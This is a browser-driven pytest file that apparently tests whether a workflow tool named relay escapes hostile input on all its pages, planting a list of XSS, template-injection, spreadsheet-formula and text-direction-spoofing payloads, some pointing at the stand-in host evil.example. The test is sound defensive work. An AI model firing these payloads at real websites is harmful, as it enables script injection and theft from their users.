"""What outsiders send is text on every page: hostile payloads in every place, looked at in a real browser."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import requests
from playwright.sync_api import Page, expect
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from tests.support.running import EMAIL, PASSWORD, Relay, wait_until

RUN = "window.__xss=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"</script><script>{RUN}</script>",
    f"<script/x>{RUN}</script\t>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js async>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"`><img src=x onerror=`{RUN}`>",
    "<img src=https://evil.example/pixel.gif>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>",
    "<iframe src=https://evil.example/>",
    f"<a href=javascript:{RUN}>press</a>",
    f"javascript:{RUN}//",
    f"java\tscript:{RUN}",
    "data:text/html,<script>parent.__xss=1</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f'" hx-on::load="{RUN}" hx-get="https://evil.example/" hx-trigger="load',
    "<div hx-get='https://evil.example/' hx-trigger='load'>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Sign in",
    "{{ 7*7 }}{% include 'base.html' %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;script&#62; \\u003cscript\\u003e",
    '=HYPERLINK("https://evil.example/","press")',
    "\u202egnp.exe\u202d \u2067rtl\u2066 \u061c\u200f",
    "W" * 400,
    "\u0639\u0631\u0628\u064a" * 60,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 12,
)
# One of each kind.
FEW = tuple(text for number, text in enumerate(PAYLOADS) if number % 5 == 0 or "\u202e" in text)
# How many texts have a letter in them that turns the direction, and say so nowhere.
TURNED = r"""() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  let count = 0;
  while (walker.nextNode()) {
    const inside = walker.currentNode.parentElement;
    const shown = inside.matches(".turner") && getComputedStyle(inside, "::before").content.includes("U+20");
    const turns = /[\u202a-\u202e\u2066-\u2069]/.test(walker.currentNode.data);
    if (turns && !shown && !inside.matches("textarea, option")) count++;
  }
  return count;
}"""
BROKEN = b"\xff\xfe<script>window.__xss=1</script>\xc0\xbcscript\xc0\xbe"
# In the database itself, since a command for each would take a minute.
PLANT = """
import json, sys
from relay.supervision import processes
processes.set_up_django()
from relay.engine.configuration import connections, flow_lifecycle
from relay.models import Workspace
here = Workspace.objects.get()
given = json.load(sys.stdin)
for text in given["payloads"]:
    step = {"id": "say", "kind": "action", "name": text[:100], "action": "inbox.post", "inputs": {"text": text}}
    step = {**step, "connection": text[:90]}
    document = {"relay": 1, "name": text[:200], "folder": text[:100], "trigger": {}, "steps": [step]}
    flow_lifecycle.create_flow(here, document)
    connections.set_connection(here, text[:90], "http", {})
for name, document in given["flows"].items():
    flow = flow_lifecycle.import_document(here, document, publish_it=True)
    print(flow.trigger.url)
"""


def flows(origin: str) -> dict[str, Any]:
    body = {"text": "{{ event.body.it }}", "type": "text/html"}
    send = {
        "method": "POST",
        "url": f"{origin}/echo",
        "body": body,
        "headers": {"X-It": "{{ event.body.it | urlencode }}"},
    }
    post = {"channel": "{{ event.body.it }}", "title": "{{ event.body.it }}", "text": "{{ event.body.it }}"}
    steps = [
        {"id": "all", "kind": "set", "values": {"it": "{{ event.body.it }}"}},
        {"id": "say", "kind": "action", "action": "inbox.post", "inputs": post},
        {"id": "send", "kind": "action", "action": "http.request", "inputs": send, "retry": {"delays": []}},
    ]
    title = {"title": "{{ event.body.it }}", "trigger": {"kind": "webhook", "methods": ["POST"]}}
    return {"Looked at": {"relay": 1, "name": "Looked at", **title, "steps": steps}}


def echo(request: Request) -> Response:
    """A failure that says everything back as a page."""
    return Response(request.get_data(), 418, {"Content-Type": "text/html", "X-Echo": "<script>window.__xss=1</script>"})


@pytest.fixture
def watched(page: Page) -> tuple[Page, list[str]]:
    """The page, and what it did that no page of ours does; what its policy refused is on the console, which fails."""
    done: list[str] = []
    page.on("dialog", lambda dialog: (done.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on(
        "request",
        lambda request: done.append(request.url) if urlsplit(request.url).hostname == "evil.example" else None,
    )
    page.on("popup", lambda popup: done.append(f"window: {popup.url}"))
    return page, done


@pytest.mark.exhaustive
@pytest.mark.parametrize("payloads", [FEW, pytest.param(PAYLOADS, marks=pytest.mark.exhaustive)], ids=["few", "all"])
def test_what_outsiders_send_is_text_on_every_page(
    watched: tuple[Page, list[str]], relay_up: Relay, httpserver: HTTPServer, payloads: tuple[str, ...]
) -> None:
    page, done = watched
    httpserver.expect_request("/echo").respond_with_handler(echo)
    url = _plant(relay_up, httpserver.url_for("").rstrip("/"), payloads)
    _send(url, payloads)
    wait_until(lambda: all(run["finished"] for run in relay_up.json("runs", "--limit", "100", "--json")), seconds=60)

    _sign_in(page, relay_up)
    places = _places(relay_up, payloads)
    for place in places:
        page.goto(f"{relay_up.url}{place}")
        done += [f"{place}: {fault}" for fault in _faults(page)]
    page.set_viewport_size({"width": 360, "height": 800})
    for place in places[:9]:
        page.goto(f"{relay_up.url}{place}")
        done += [f"{place}, narrow: {fault}" for fault in _faults(page)]

    turned = next(run["run"] for run in relay_up.json("runs", "--limit", "100", "--json") if "\u202e" in run["title"])
    page.goto(f"{relay_up.url}/runs/{turned}/")

    assert page.locator(".turner").count() > 5
    assert "\u202egnp.exe" in (page.locator("h1").text_content() or "")
    assert len(places) > 30 + len(payloads)
    assert "\n".join(done) == ""


def _plant(relay: Relay, origin: str, payloads: tuple[str, ...]) -> str:
    given = json.dumps({"payloads": payloads, "flows": flows(origin)})
    script = [sys.executable, "-c", PLANT]
    planted = subprocess.run(
        script, env=relay.env, input=given, capture_output=True, text=True, check=False, timeout=90
    )
    assert planted.returncode == 0, planted.stderr
    url = planted.stdout.split()[-1]
    return f"{relay.url}/in/{url.rpartition('/')[2]}"


def _send(url: str, payloads: tuple[str, ...]) -> None:
    for text in payloads:
        headers = {"X-It": text.encode("utf-8").replace(b"\t", b" "), "User-Agent": text.encode().replace(b"\t", b" ")}
        body = {"it": text, text: [text, {text: text}]}
        answer = requests.post(f"{url}?it={quote(text)}&{quote(text)}=1", json=body, headers=headers, timeout=10)
        assert answer.status_code == 202
        # By another method than the trigger's: kept among what was rejected.
        assert (
            requests.put(f"{url}?it={quote(text)}", data=text.encode(), headers=headers, timeout=10).status_code == 405
        )
    for content_type in ("text/html", "application/json", "text/xml", 'multipart/form-data; boundary="<script>"'):
        requests.post(url, data=BROKEN, headers={"Content-Type": content_type}, timeout=10)


def _sign_in(page: Page, relay: Relay) -> None:
    page.goto(f"{relay.url}/sign-in/")
    page.get_by_label("E-mail address").fill(EMAIL)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    expect(page.get_by_role("heading", name="Flows")).to_be_visible()


def _places(relay: Relay, payloads: tuple[str, ...]) -> list[str]:
    """Every list, then each run, some flows, and searches for the payloads."""
    lists = ["/flows/", "/runs/", "/inbox/", "/inbox/held/", "/inbox/captured/", "/inbox/rejected/", "/connections/"]
    lists += ["/workspace/", "/workspace/audit/", "/issues/"]
    lists += [f"/issues/{issue['issue']}/" for issue in relay.json("issues", "--json")]
    runs = [f"/runs/{run['run']}/" for run in relay.json("runs", "--limit", "100", "--json")]
    known = [f"/flows/{flow['flow']}/" for flow in relay.json("flows", "--json")]
    searches = [f"/runs/?q={quote(text)}" for text in payloads[::6]]
    return [*lists, *runs, *known[:9], *(f"{one}?step=say" for one in known[:9]), *searches]


def _faults(page: Page) -> list[str]:
    """What ran, or broke the page's frame."""
    found = page.evaluate(
        "() => ({ran: window.__xss !== undefined, wide: document.documentElement.scrollWidth - window.innerWidth,"
        " base: document.querySelector('base') !== null, frames: window.frames.length})"
    )
    wrong = {"ran": found["ran"], "too wide": found["wide"] > 1, "base": found["base"], "frames": found["frames"] > 0}
    wrong["turned"] = page.evaluate(TURNED) > 0
    return [f"{name} ({found['wide']} px)" for name, is_so in wrong.items() if is_so]
